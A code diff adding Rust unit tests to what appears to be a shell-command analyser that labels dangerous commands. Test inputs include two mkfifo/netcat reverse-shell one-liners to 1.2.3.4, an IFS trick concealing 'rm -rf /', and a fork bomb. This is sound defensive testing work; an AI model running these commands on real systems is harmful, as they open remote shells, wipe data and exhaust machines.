@@ -228,6 +228,17 @@ fn what_is_sent_away_is_followed() {
 }
 
 #[test]
+fn a_pipe_with_a_name_closes_the_circle_of_a_reverse_shell() {
+    shows("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 > /tmp/f", "executes network");
+    shows("mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 1.2.3.4 99 > /tmp/f", "executes network");
+}
+
+#[test]
+fn another_separator_cuts_other_words() {
+    check("IFS=,;x=rm,-rf,/;$x", "group [sets IFS=,]; rm -rf / [removes tree /]");
+}
+
+#[test]
 fn a_function_that_starts_itself_fills_the_machine() {
     shows(":(){ :|:& };:", "Exhaustion :");
 }
